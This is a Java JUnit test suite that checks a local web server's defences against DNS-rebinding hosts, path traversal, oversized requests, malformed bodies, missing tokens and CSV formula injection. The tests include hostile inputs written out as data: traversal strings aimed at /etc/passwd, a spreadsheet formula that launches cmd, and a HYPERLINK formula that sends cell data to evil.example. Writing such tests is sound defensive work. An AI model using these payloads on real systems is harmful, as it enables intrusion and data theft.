package io.frontline.server.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.frontline.server.Http;
import io.frontline.server.ServerTest;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The server probed as an attacker on the same machine would: hostile Host names (DNS rebinding), path traversal,
 * oversized everything, malformed bodies, formula cells, unknown parameters, missing tokens. Each answer must be the
 * safe one, and every refusal an RFC 9457 problem with the security headers.
 */
class SecurityApiTest extends ServerTest {
  static final String PROBLEM = "application/problem+json";

  int port() {
    return fixture.server().port();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "127.0.0.1.rebind.evil.example:18080",
        "127.0.0.1.nip.io",
        "localhost.evil.example",
        "evil.example",
        "127.0.0.1@evil.example",
        "[::1].evil.example",
        "0.0.0.0",
        "127.0.0.1:80:80"
      })
  void aRebindingHostGetsNeitherThePageNorTheTokenNorAWrite(String host) {
    String page = Raw.get(port(), "/", host);
    assertThat(Raw.status(page))
        .as("refused by the host check, or as malformed by Jetty")
        .isIn(400, 403);
    assertThat(page)
        .contains(PROBLEM)
        .doesNotContain(fixture.token())
        .doesNotContain("frontline-token");
    String write = Raw.send(
        port(),
        "POST /api/v1/observations HTTP/1.1\r\nHost: " + host + "\r\nAuthorization: Bearer "
            + fixture.token()
            + "\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}");
    assertThat(Raw.status(write)).isIn(400, 403);
    assertThat(write).contains(PROBLEM);
  }

  @Test
  void aRequestWithoutHostIsRefused() {
    String answer = Raw.send(port(), "GET /api/v1/actors HTTP/1.0\r\n\r\n");
    assertThat(Raw.status(answer)).isEqualTo(403);
    assertThat(answer).contains(PROBLEM);
  }

  @Test
  void theLoopbackNamesStillGetThePage() {
    for (String host : List.of("127.0.0.1", "localhost:" + port(), "[::1]:" + port())) {
      String page = Raw.get(port(), "/", host);
      assertThat(Raw.status(page)).as(host).isEqualTo(200);
      assertThat(page).contains("frontline-token");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/../../etc/passwd",
        "/js/../../../etc/passwd",
        "/js/..%2f..%2fetc%2fpasswd",
        "/js/%2e%2e/%2e%2e/etc/passwd",
        "/vendor/maplibre/..%5c..%5cetc%5cpasswd",
        "/js/%00main.js",
        "/js/main.js%00.txt",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/js/....//....//etc/passwd",
        "/js/..;/..;/etc/passwd"
      })
  void traversalReachesNothingAndIsAProblem(String target) {
    String answer = Raw.get(port(), target, "127.0.0.1");
    assertThat(Raw.status(answer)).as(answer).isIn(400, 404);
    assertThat(answer)
        .contains(PROBLEM)
        .contains("X-Content-Type-Options: nosniff")
        .doesNotContain("root:");
  }

  @Test
  void aHugeQueryStringIs414AsAProblem() {
    String answer =
        Raw.get(port(), "/api/v1/figures?date=2016-02-01&x=" + "a".repeat(100_000), "127.0.0.1");
    assertThat(Raw.status(answer)).isEqualTo(414);
    assertThat(answer).contains(PROBLEM);
  }

  @Test
  void aHugeHeaderIs431AsAProblem() {
    String answer = Raw.get(port(), "/api/v1/actors", "127.0.0.1", "X-Big: " + "b".repeat(60_000));
    assertThat(Raw.status(answer)).isEqualTo(431);
    assertThat(answer).contains(PROBLEM);
  }

  @Test
  void aMalformedRequestLineIsAProblem() {
    String answer =
        Raw.send(port(), "GET /api/v1/actors HTTP/9.9 extra\r\nHost: 127.0.0.1\r\n\r\n");
    assertThat(Raw.status(answer)).isBetween(400, 505);
    assertThat(answer).contains(PROBLEM).doesNotContain("<html");
  }

  @Test
  void aMultipartBodyWhoseBoundaryNeverClosesIs400() {
    byte[] body = ("--XYZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"o.csv\"\r\n"
            + "Content-Type: text/csv\r\n\r\nplace,actor\r\nMosul,IS\r\n")
        .getBytes(StandardCharsets.UTF_8);
    Http.Answer a = http.post(
        "/api/v1/imports",
        "multipart/form-data; boundary=XYZ",
        body,
        "Authorization",
        "Bearer " + fixture.token());
    assertProblem(a, 400, "multipart");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{",
        "[]",
        "{\"place_id\": 99072, \"place_id\": 1}",
        "{} trailing",
        "\u0000\u0001",
        "{\"note\": \"\\ud800\"}",
        "nul"
      })
  void malformedJsonBodiesAre4xxProblems(String body) {
    Http.Answer a = http.postJson("/api/v1/observations", body, fixture.token());
    assertThat(a.status()).as(a.text()).isBetween(400, 422);
    assertThat(a.header("Content-Type")).startsWith(PROBLEM);
  }

  @Test
  void unknownParametersAre400AndNothingIsRecorded() {
    long revision = http.get("/api/v1").json().get("store_revision").asLong();
    Http.Answer a = http.post(
        "/api/v1/imports?filename=ok.csv&dryrun=true",
        "text/csv",
        "place,actor,status,date,source_url\n".getBytes(StandardCharsets.UTF_8),
        "Authorization",
        "Bearer " + fixture.token());
    assertProblem(a, 400, "'dryrun' is not a parameter");
    assertThat(a.json().get("errors").get(0).get("field").asText()).isEqualTo("dryrun");
    assertProblem(
        http.postJson(
            "/api/v1/observations/anything/corrections?dry_run=true", "{}", fixture.token()),
        400,
        "'dry_run' is not a parameter");
    assertProblem(
        http.get("/api/v1/figures?date=2016-02-01&asOf=2016-01-01"),
        400,
        "'asOf' is not a parameter");
    assertThat(http.get("/api/v1").json().get("store_revision").asLong()).isEqualTo(revision);
  }

  @ParameterizedTest
  @CsvSource({
    "POST,/api/v1/observations",
    "POST,/api/v1/observations/x/corrections",
    "POST,/api/v1/observations/x/retraction",
    "POST,/api/v1/imports?filename=a.csv"
  })
  void everyWriteNeedsTheRightToken(String method, String path) {
    for (String[] auth : List.of(
        new String[0],
        new String[] {"Authorization", "Bearer wrong-token-0123456789"},
        new String[] {"Authorization", "Basic " + fixture.token()},
        new String[] {"Authorization", "Bearer "})) {
      Http.Answer a =
          http.post(path, "application/json", "{}".getBytes(StandardCharsets.UTF_8), auth);
      assertProblem(a, 401, "");
      assertThat(a.header("WWW-Authenticate")).startsWith("Bearer");
    }
  }

  @Test
  void aWrongMethodNamesTheAllowedOnes() {
    Http.Answer a = http.method("DELETE", "/api/v1/actors");
    assertProblem(a, 405, "DELETE is not allowed");
    assertThat(a.header("Allow")).isEqualTo("GET, HEAD");
    assertThat(http.method("PUT", "/api/v1/observations").header("Allow")).contains("GET", "POST");
  }

  @Test
  void everyAnswerCarriesTheSecurityHeaders() {
    for (String path : List.of(
        "/",
        "/api/v1/actors",
        "/api/v1/nothing",
        "/js/main.js",
        "/tiles/basemap/2/2/1.mvt",
        "/api",
        "/ogc")) {
      Http.Answer a = http.get(path);
      assertThat(a.header("X-Content-Type-Options")).as(path).isEqualTo("nosniff");
      assertThat(a.header("Content-Security-Policy"))
          .as(path)
          .contains("frame-ancestors 'none'")
          .doesNotContain("unsafe-inline")
          .doesNotContain("unsafe-eval");
    }
    assertThat(http.get("/").header("Content-Security-Policy")).contains("script-src 'self'");
    assertThat(http.get("/api/v1/actors").header("Content-Security-Policy"))
        .startsWith("default-src 'none'");
  }

  @Test
  void theAppsPagesHaveNoInlineScriptOrStyle() {
    for (String path : List.of("/", "/api")) {
      String page = http.get(path).text().toLowerCase(Locale.ROOT);
      assertThat(page)
          .as(path)
          .doesNotContain("<style")
          .doesNotContain(" style=")
          .doesNotContain("onclick=")
          .doesNotContainPattern("<script(?![^>]*\\bsrc=)");
    }
  }

  @Test
  void aPictureLargerThanTheServerDrawsIs400() {
    assertProblem(
        http.get("/api/v1/exports?date=2016-02-01&format=png&size=8000x8000"),
        400,
        "at most 4096x4096");
  }

  @Test
  void csvExportsNeutraliseFormulaCells() {
    String body =
        """
        {"place_id": 163808, "actor": "Government of Syria", "status": "controls", "from_actor": "IS",
         "date": "2016-03-30", "source": {"title": "@SUM(1+1)*cmd|' /C calc'!A0", "urls": ["https://example.org/r"]},
         "confidence": "high", "note": "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"click\\")"}""";
    Http.Answer created = http.postJson("/api/v1/observations", body, fixture.token());
    assertThat(created.status()).as(created.text()).isEqualTo(201);
    String csv =
        http.get("/api/v1/changes?from=2016-03-01&to=2016-04-01&format=csv").text();
    assertThat(csv).contains("'=HYPERLINK(");
    for (String line : csv.split("\r\n")) {
      for (String cell : line.split(",")) {
        String c = cell.startsWith("\"") ? cell.substring(1) : cell;
        assertThat(c).as(line).doesNotStartWith("=").doesNotStartWith("@");
      }
    }
    String settlements = http.get("/api/v1/exports?date=2016-03-25&format=csv").text();
    assertThat(settlements).doesNotContain(",=").doesNotContain(",@");
  }

  @Test
  void aServerErrorHasNoNullMembers() {
    JsonNode p = http.get("/api/v1/nothing").json();
    p.fields()
        .forEachRemaining(e -> assertThat(e.getValue().isNull()).as(e.getKey()).isFalse());
  }

  static void assertProblem(Http.Answer a, int status, String message) {
    assertThat(a.status()).as(a.text()).isEqualTo(status);
    assertThat(a.header("Content-Type")).startsWith(PROBLEM);
    assertThat(a.json().get("detail").asText()).contains(message);
    assertThat(a.header("X-Content-Type-Options")).isEqualTo("nosniff");
  }
}
